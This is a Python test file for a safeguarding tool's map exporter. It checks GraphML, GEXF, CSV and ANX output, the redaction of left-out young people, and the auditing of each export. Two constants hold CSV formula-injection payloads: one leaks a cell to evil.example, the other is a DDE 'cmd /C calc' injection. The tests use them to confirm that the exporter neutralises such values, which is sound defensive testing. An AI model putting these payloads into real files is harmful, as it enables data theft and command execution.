"""`peermap export graphml|gexf|csv|anx` (issue 16 item 7): the shown map, read back, redacted, neutralised, audited."""

from __future__ import annotations

import csv
import hashlib
import html
import io
import json
import re
import shutil
import zipfile
from collections import Counter
from pathlib import Path
from xml.etree import ElementTree as ET

import networkx as nx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlmodel import select
from test_tui_data import BUILDER, NOW, build_demo_db
from typer.testing import CliRunner

from peermap.cli import app
from peermap.engine import FORMULA_START, Store, audit, compute_map, export_map, os_login
from peermap.engine.access import Actor
from peermap.engine.demo import build_demo
from peermap.engine.export import LINK_FIELDS, _csv_table
from peermap.engine.models import AuditEvent, Incident, Location
from peermap.engine.report_data import young_person_records

AUDITOR = Actor.parse("dpo", "auditor")
PANEL = Actor.parse("chair", "panel")
HOSTILE_PLACE = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
HOSTILE_SUMMARY = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(autouse=True)
def _clock(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PEERMAP_NOW", NOW.isoformat())


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_demo_db(tmp_path_factory.mktemp("export") / "demo.db")


@pytest.fixture
def demo(template: Path, tmp_path: Path) -> Path:
    path = tmp_path / "demo.db"
    shutil.copy(template, path)
    return path


def _cli(db: Path, role: str, *args: str, code: int = 0) -> str:
    result = CliRunner().invoke(app, ["--db", str(db), "--actor", "pat", "--role", role, *args])
    assert result.exit_code == code, result.output
    assert "Traceback" not in result.output
    return result.stdout if code == 0 else result.stderr


def _export(db: Path, role: str, fmt: str, out: Path, *extra: str) -> Path:
    _cli(db, role, "export", fmt, "--out", str(out), "--recipient", "Gephi analyst, CSP", "--purpose", "MACE", *extra)
    return out


def _map(db: Path, role: str, *extra: str) -> dict:
    return json.loads(_cli(db, role, "map", "--json", *extra))


def _expected(m: dict) -> tuple[set[str], Counter]:
    nodes = {p["id"] for p in m["people"]} | {e for link in m["links"] for e in (link["source"], link["target"])}
    edges = Counter((frozenset((lk["source"], lk["target"])), lk["relation"], lk["band"]) for lk in m["links"])
    return nodes, edges


def _graph_edges(g: nx.Graph) -> Counter:
    return Counter((frozenset((u, v)), d["relation"], d["band"]) for u, v, d in g.edges(data=True))


def _file_text(path: Path) -> str:
    """Every byte of an export as text: the CSV zip's members decompressed, XML entities resolved too."""
    raw = path.read_bytes()
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as zf:
            text = "\n".join(zf.read(n).decode("utf-8-sig") for n in zf.namelist())
    else:
        text = raw.decode("utf-8")
    return text + "\n" + html.unescape(text)


def _csv_tables(path: Path) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(path) as zf:
        assert sorted(zf.namelist()) == ["links.csv", "nodes.csv"]
        return {n: list(csv.DictReader(io.StringIO(zf.read(n).decode("utf-8-sig")))) for n in zf.namelist()}


@pytest.mark.parametrize("as_at", [None, "2026-06-30"])
@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_graphml_and_gexf_read_back_as_the_map_shows(demo: Path, tmp_path: Path, fmt: str, as_at: str | None) -> None:
    extra = ("--as-at", as_at) if as_at else ()
    m = _map(demo, "practitioner", *extra)
    out = _export(demo, "practitioner", fmt, tmp_path / f"map.{fmt}", *extra)
    g = nx.read_graphml(out) if fmt == "graphml" else nx.read_gexf(out)
    nodes, edges = _expected(m)
    assert m["people"] and m["links"]
    assert set(g.nodes) == nodes
    assert _graph_edges(g) == edges
    status = {p["id"]: p["status"] for p in m["people"]}
    assert {"included", "greyed"} <= set(status.values())  # the demo has both: greyed are shown as greyed
    for node, data in g.nodes(data=True):
        assert data.get("status", "") == status.get(node, ""), node
        assert data["kind"] == ("person" if node in status else data["kind"])
        if node in status:
            assert data["label"] == next(p["name"] for p in m["people"] if p["id"] == node)


def test_csv_is_a_zip_of_nodes_and_links_matching_the_map(demo: Path, tmp_path: Path) -> None:
    m = _map(demo, "panel")
    tables = _csv_tables(_export(demo, "panel", "csv", tmp_path / "map.zip"))
    nodes, edges = _expected(m)
    assert {r["id"] for r in tables["nodes.csv"]} == nodes
    assert len(tables["nodes.csv"]) == len(nodes)  # one row a node
    got = Counter((frozenset((r["source"], r["target"])), r["relation"], r["band"]) for r in tables["links.csv"])
    assert got == edges
    assert list(tables["links.csv"][0]) == list(LINK_FIELDS)
    people = {p["id"]: p for p in m["people"]}
    for row in tables["nodes.csv"]:
        if row["id"] in people:
            assert row["status"] == people[row["id"]]["status"] and row["kind"] == "person"
            assert float(row["confidence"]) >= 0
        else:
            assert row["kind"] in ("location", "incident") and row["status"] == ""


def _plant(db: Path, location_name: str, summary: str) -> tuple[str, str]:
    """Give a place and an incident on the map hostile record text; returns their ids."""
    store = Store.open(f"sqlite:///{db}")
    m = compute_map(store)
    ends = {e for sl in m.shown_links for e in (sl.source, sl.target)}
    loc_id = sorted(e for e in ends if e in m.snapshot.locations)[0]
    inc_id = sorted(e for e in ends if e in m.snapshot.incidents)[0]
    with store.transaction() as s:
        loc = s.exec(select(Location).where(Location.location_id == loc_id)).one()
        loc.name = location_name
        inc = s.exec(select(Incident).where(Incident.incident_id == inc_id)).one()
        inc.summary = summary
        s.add(loc)
        s.add(inc)
    store.dispose()
    return loc_id, inc_id


def test_csv_neutralises_formulas_in_names_and_notes(demo: Path, tmp_path: Path) -> None:
    loc_id, inc_id = _plant(demo, HOSTILE_PLACE, HOSTILE_SUMMARY)
    rows = {r["id"]: r for r in _csv_tables(_export(demo, "practitioner", "csv", tmp_path / "m.zip"))["nodes.csv"]}
    assert rows[loc_id]["label"] == "'" + HOSTILE_PLACE
    assert rows[inc_id]["detail"] == "'" + HOSTILE_SUMMARY
    for row in rows.values():
        for value in row.values():
            assert not (len(value) > 1 and value.startswith(FORMULA_START)), value
    # the other formats carry the text as data (they are not spreadsheets), escaped by their XML writers
    g = nx.read_graphml(_export(demo, "practitioner", "graphml", tmp_path / "m.graphml"))
    assert g.nodes[loc_id]["label"] == HOSTILE_PLACE


def _left_out(db: Path) -> tuple[set[str], set[str]]:
    """Left-out young people's names (those no shown person also bears) and every record id of theirs."""
    store = Store.open(f"sqlite:///{db}")
    result = compute_map(store)
    records = young_person_records(store)
    shown_names = {records[r].name for s in result.shown_people() for r in result.snapshot.records_of[s.person_id]}
    left = [p for p, s in result.statuses.items() if s.status == "left_out"]
    ids = {r for p in left for r in result.snapshot.records_of.get(p, [p])} | set(left)
    names = {records[r].name for r in ids if r in records} - shown_names
    store.dispose()
    return names, ids


@pytest.mark.parametrize("role", ["practitioner", "panel", "auditor"])
def test_no_left_out_young_person_is_named_or_identified_in_any_export(demo: Path, tmp_path: Path, role: str) -> None:
    names, ids = _left_out(demo)
    assert names and ids
    # a left-out young person named inside free text on the map (an incident summary) is redacted too
    victim = sorted(names)[0]
    victim_id = sorted(ids)[0]
    _plant(demo, "Kestrel House stairwell", f"{victim} ({victim_id}) was seen there")
    pattern = re.compile(r"(?<![\w-])(" + "|".join(re.escape(i) for i in sorted(ids)) + r")(?![\w-])")
    for fmt in ("graphml", "gexf", "csv", "anx"):
        text = _file_text(_export(demo, role, fmt, tmp_path / f"m.{fmt}"))
        for name in names:
            assert name not in text, (fmt, name)
        assert not pattern.search(text), (fmt, pattern.search(text))
        assert "another young person (another young person) was seen there" in text, fmt


def test_anx_has_the_documented_structure(demo: Path, tmp_path: Path) -> None:
    m = _map(demo, "practitioner")
    root = ET.parse(_export(demo, "practitioner", "anx", tmp_path / "map.anx")).getroot()
    assert root.tag == "Chart"
    assert [c.tag for c in root] == ["AttributeClassCollection", "StrengthCollection", "ChartItemCollection", "Summary"]
    classes = {a.get("Name") for a in root.find("AttributeClassCollection") or []}
    strengths = {s.get("Name") for s in root.find("StrengthCollection") or []}
    assert strengths == {"solid", "dashed"}
    items = list(root.find("ChartItemCollection") or [])
    assert all(i.tag == "ChartItem" for i in items)
    entities: dict[str, str] = {}
    links = []
    for item in items:
        kinds = [c.tag for c in item if c.tag in ("End", "Link")]
        assert len(kinds) == 1, ET.tostring(item)
        for attr in item.iter("Attribute"):
            assert attr.get("AttributeClass") in classes
        if kinds == ["End"]:
            ent = item.find("End/Entity")
            assert ent is not None and item.find("End/Entity/Icon/IconStyle") is not None
            assert ent.get("EntityId") not in entities
            entities[str(ent.get("EntityId"))] = str(ent.get("Identity"))
        else:
            link = item.find("Link")
            assert link is not None and link.find("LinkStyle") is not None
            assert link.find("LinkStyle").get("Strength") in strengths  # type: ignore[union-attr]
            links.append(link)
    for link in links:  # every link's ends exist
        assert link.get("End1Id") in entities and link.get("End2Id") in entities
    nodes, edges = _expected(m)
    assert set(entities.values()) == nodes and len(entities) == len(nodes)
    got = Counter(
        (frozenset((entities[str(lk.get("End1Id"))], entities[str(lk.get("End2Id"))])), item.get("Label"), band)
        for item in items
        if (lk := item.find("Link")) is not None and (band := lk.find("LinkStyle").get("Strength"))  # type: ignore[union-attr]
    )
    assert got == edges


def test_every_export_is_audited_with_recipient_purpose_and_the_people_it_names(demo: Path, tmp_path: Path) -> None:
    m = _map(demo, "practitioner")
    out = _export(demo, "practitioner", "gexf", tmp_path / "map.gexf")
    store = Store.open(f"sqlite:///{demo}")
    ev = audit.events(store, AUDITOR, action="export")[-1]
    payload = json.loads(ev.payload)
    assert payload["recipient"] == "Gephi analyst, CSP" and payload["purpose"] == "MACE"
    assert payload["person_ids"] == sorted(p["id"] for p in m["people"])
    assert payload["format"] == "gexf" and payload["out"] == str(out.resolve())
    assert payload["digest"] == hashlib.sha256(out.read_bytes()).hexdigest()
    assert ev.actor == os_login() and audit.verify(store).ok  # the login; "pat" is a label beside it
    store.dispose()


def test_out_at_the_database_or_a_foreign_file_is_refused_and_nothing_is_audited(demo: Path, tmp_path: Path) -> None:
    before = demo.read_bytes()
    err = _cli(demo, "practitioner", "export", "csv", "--out", str(demo), "--recipient", "r", "--purpose", "p", code=2)
    assert "that is the peermap database" in err
    assert demo.read_bytes() == before
    foreign = tmp_path / "notes.xml"
    foreign.write_text("mine")
    err = _cli(demo, "panel", "export", "anx", "--out", str(foreign), "--recipient", "r", "--purpose", "p", code=2)
    assert "peermap did not write it" in err and foreign.read_text() == "mine"
    store = Store.open(f"sqlite:///{demo}")
    assert audit.events(store, AUDITOR, action="export") == []
    store.dispose()


def test_replacing_an_export_needs_force(demo: Path, tmp_path: Path) -> None:
    out = _export(demo, "practitioner", "graphml", tmp_path / "m.graphml")
    err = _cli(
        demo, "practitioner", "export", "graphml", "--out", str(out), "--recipient", "r", "--purpose", "p", code=2
    )
    assert "--force" in err
    _export(demo, "practitioner", "graphml", out, "--force")
    assert nx.read_graphml(out).number_of_nodes() > 0


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["export", "pdf", "--out", "x", "--recipient", "r", "--purpose", "p"], "unknown export format 'pdf'"),
        (["export", "csv", "--out", "x", "--recipient", "r", "--purpose", "  "], "--purpose is required"),
        (["export", "csv", "--out", "x", "--recipient", "", "--purpose", "p"], "--recipient is required"),
        (["export", "csv", "--out", "x", "--recipient", "r", "--purpose", "p", "--as-at", "30/11"], "not a date"),
    ],
)
def test_bad_input_is_a_clear_error_and_writes_nothing(
    demo: Path, tmp_path: Path, args: list[str], message: str
) -> None:
    args = [a if a != "x" else str(tmp_path / "x") for a in args]
    assert message in _cli(demo, "practitioner", *args, code=2)
    assert not (tmp_path / "x").exists()


@given(st.lists(st.text(max_size=12), min_size=1, max_size=6))
def test_csv_cells_round_trip_except_a_formula_gets_one_apostrophe(cells: list[str]) -> None:
    fields = tuple(f"c{i}" for i in range(len(cells)))
    data = _csv_table(fields, [dict(zip(fields, cells, strict=True))])
    back = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert back[0] == list(fields) and len(back) == 2
    for original, read in zip(cells, back[1], strict=True):
        risky = len(original) > 1 and original.startswith(FORMULA_START)
        assert read == ("'" + original if risky else original)
        assert not (len(read) > 1 and read.startswith(FORMULA_START))


def test_export_on_each_database_engine(any_store: Store, tmp_path: Path) -> None:
    build_demo(any_store, BUILDER, seed=7)
    m = compute_map(any_store)
    done = export_map(any_store, PANEL, "graphml", tmp_path / "m.graphml", recipient="r", purpose="p")
    g = nx.read_graphml(done.path)
    assert set(done.person_ids) == {s.person_id for s in m.shown_people()} <= set(g.nodes)
    assert not set(m.left_out_ids) & set(g.nodes)
    ev = audit.events(any_store, AUDITOR, action="export")[-1]
    assert isinstance(ev, AuditEvent) and json.loads(ev.payload)["person_ids"] == done.person_ids
    assert audit.verify(any_store).ok


def test_an_export_counts_for_correction_notices_when_someone_in_it_leaves_the_map(demo: Path, tmp_path: Path) -> None:
    from peermap.engine import notices_due, policy_in_force, set_policy, with_changes

    _export(demo, "practitioner", "csv", tmp_path / "m.zip")
    store = Store.open(f"sqlite:///{demo}")
    ev = audit.events(store, AUDITOR, action="export")[-1]
    assert not any(n.recipient == "Gephi analyst, CSP" for n in notices_due(store, PANEL))
    current = policy_in_force(store)
    stricter = with_changes(current.body, include_threshold=0.99, grey_threshold=0.98)
    set_policy(store, PANEL, stricter, "test: a stricter panel", based_on=current.version)
    owed = {n.recipient: n for n in notices_due(store, PANEL)}
    assert ev.seq in owed["Gephi analyst, CSP"].events
    assert set(owed["Gephi analyst, CSP"].removed) <= set(json.loads(ev.payload)["person_ids"])
    assert owed["Gephi analyst, CSP"].removed
    store.dispose()


def test_a_csv_export_not_named_zip_gets_a_note(demo: Path, tmp_path: Path) -> None:
    args = ["--db", str(demo), "export", "csv", "--out", str(tmp_path / "m.csv"), "--recipient", "r", "--purpose", "p"]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0 and "is a zip holding nodes.csv and links.csv" in result.stderr
    assert zipfile.is_zipfile(tmp_path / "m.csv")
